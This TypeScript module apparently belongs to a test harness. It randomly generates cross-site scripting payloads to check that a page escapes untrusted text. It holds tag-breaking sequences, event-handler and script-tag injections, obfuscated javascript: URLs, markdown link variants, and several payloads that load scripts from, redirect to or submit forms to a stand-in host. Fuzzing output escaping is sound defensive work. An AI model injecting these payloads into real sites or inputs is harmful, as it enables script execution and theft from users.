import type { Random } from '../../../harness/random.ts';
import { chance, mapLetters, number, oneOf, type Rule, type Some } from './draw.ts';

/** Characters that end the place of a text. */
const endings: Some<string> = [
  '</textarea>',
  ...['</title>', '</pre>', '</code>', '</details>', '</p></div>', '</script>', '</style>', '</svg>'],
  ...['-->', ']]>', '"', "'", '">', "'>", '`', '"/>', '\u0000', '&quot;>', '&#34;>', '\\">', '%22%3E'],
];

const handlers: Some<string> = ['onclick', 'onerror', 'onload', 'onmouseover', 'ONFOCUS', 'ontoggle', 'onanimationend'];

const tags: Some<string | Rule> = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"</style>',
  '<form action=//evil.example><button>Sign out</button></form>',
  '<input formaction=javascript:alert(1) autofocus>',
  '<object data=//evil.example></object>',
  '<a href=javascript:alert(1)>x</a>',
  '<div style="position:fixed;inset:0;background:url(//evil.example)">',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  (random) => `<details open ${random.pick(handlers)}=alert(1)>`,
  (random) => ` ${random.pick(handlers)}="alert(1)" autofocus x="`,
];

const addresses: Some<string> = [
  'javascript:alert(1)',
  ...['JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', '&#106;avascript:alert(1)'],
  ...[
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    '//evil.example/x',
    '\\\\evil.example\\x',
    ' javascript:x',
  ],
];

const markdown: Some<Rule> = [
  (random) => `[a](${random.pick(addresses)})`,
  (random) => `[a](<${random.pick(addresses)}> "${oneOf(random, tags)}")`,
  () => '![a](https://evil.example/x.png)',
  (random) => `[a]: ${random.pick(addresses)}\n[a]`,
  (random) => `<${random.pick(addresses)}>`,
  (random) => `\`\`\`${oneOf(random, tags).replaceAll('`', '')}\n${oneOf(random, tags)}\n\`\`\``,
  (random) => `# ${oneOf(random, tags)}`,
  (random) => `| ${oneOf(random, tags)} |\n| --- |\n| x |`,
];

/** Draws a text that would be more than text on a page that does not escape it. */
export function drawPageText(random: Random): string {
  const piece = () =>
    oneOf(random, [
      (next) => `${next.pick(endings)}${oneOf(next, tags)}`,
      (next) => `${next.pick(endings)}${next.pick(endings)}${oneOf(next, tags)}`,
      (next) => oneOf(next, tags),
      (next) => oneOf(next, markdown),
      (next) => mapLetters(next, oneOf(next, tags), 0.2, (letter) => letter.toUpperCase()),
      (next) => oneOf(next, tags).replaceAll('<', '&lt;'),
    ]);
  return Array.from({ length: 1 + number(random, 3) }, piece).join(chance(random, 0.5) ? ' ' : '\n');
}

/** Draws one that fits into a line: a name, an address, a title. */
export const drawPageLine = (random: Random, most: number): string =>
  drawPageText(random)
    .replaceAll(/[\p{C}\s]+/gu, ' ')
    .trim()
    .slice(0, most);
